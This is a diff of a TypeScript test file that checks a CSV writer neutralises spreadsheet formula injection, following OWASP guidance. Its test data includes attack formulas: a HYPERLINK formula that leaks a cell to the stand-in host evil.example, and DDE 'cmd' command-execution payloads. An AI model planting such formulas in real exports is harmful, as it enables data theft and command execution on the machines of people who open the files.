@@ -1,6 +1,6 @@
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
-import { parseCsv, writeCsv } from '../../../src/shared/workspace/csv';
+import { neutraliseCell, parseCsv, restoreCell, writeCsv } from '../../../src/shared/workspace/csv';
 
 const fieldsOf = (text: string) => parseCsv(text).records.map((r) => r.fields);
 
@@ -52,7 +52,9 @@ describe('parseCsv (RFC 4180)', () => {
   });
 
   it('round-trips any table of strings through writeCsv', () => {
-    const cell = fc.string({ unit: fc.constantFrom('a', 'Z', ' ', ',', '"', '\n', '\r', 'é', '1') });
+    const cell = fc.string({
+      unit: fc.constantFrom('a', 'Z', ' ', ',', '"', '\n', '\r', 'é', '1', '=', '+', '-', '@', '\t', "'"),
+    });
     fc.assert(
       fc.property(
         fc
@@ -66,6 +68,56 @@ describe('parseCsv (RFC 4180)', () => {
           const parsed = parseCsv(writeCsv(rows));
           expect(parsed.errors).toEqual([]);
           expect(parsed.records.map((r) => r.fields)).toEqual(rows);
+        },
+      ),
+    );
+  });
+});
+
+describe('formula injection (OWASP CSV injection guidance)', () => {
+  const formulas = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
+    "=cmd|' /C calc'!A0",
+    '+1+1',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '\t=1+1',
+    '\r=1+1',
+  ];
+
+  it.each(formulas)('writes %j as quoted text behind a single quote', (value) => {
+    const text = writeCsv([['name'], [value]]);
+    const cell = text.slice('name\r\n'.length, -2);
+    expect(cell.startsWith(`"'`)).toBe(true);
+    expect(cell).toBe(`"'${value.replace(/"/g, '""')}"`);
+  });
+
+  it.each(formulas)('reads the neutralised %j back as the original string', (value) => {
+    expect(fieldsOf(writeCsv([['name'], [value]]))).toEqual([['name'], [value]]);
+  });
+
+  it('leaves ordinary cells alone, including a quote that does not guard a formula', () => {
+    expect(writeCsv([['ACME', "O'Brien", "'quoted", 'a=b', '']])).toBe(`ACME,O'Brien,'quoted,a=b,\r\n`);
+    expect(fieldsOf("'quoted,a=b\n")).toEqual([["'quoted", 'a=b']]);
+  });
+
+  it('keeps values that already start with guard quotes unambiguous', () => {
+    expect(neutraliseCell("'=1")).toBe("''=1");
+    expect(restoreCell("''=1")).toBe("'=1");
+    expect(fieldsOf(writeCsv([["'=1", "''+x"]]))).toEqual([["'=1", "''+x"]]);
+  });
+
+  it('reads a hand-written guarded cell as plain text, never as something to run', () => {
+    expect(fieldsOf("name\n'=1+1\n")).toEqual([['name'], ['=1+1']]);
+  });
+
+  it('restoreCell undoes neutraliseCell for any string', () => {
+    fc.assert(
+      fc.property(
+        fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '@', '\t', '\r', 'a', ' ') }),
+        (v) => {
+          expect(restoreCell(neutraliseCell(v))).toBe(v);
+          if (/^[=+\-@\t\r]/.test(v)) expect(neutraliseCell(v)).toBe(`'${v}`);
         },
       ),
     );
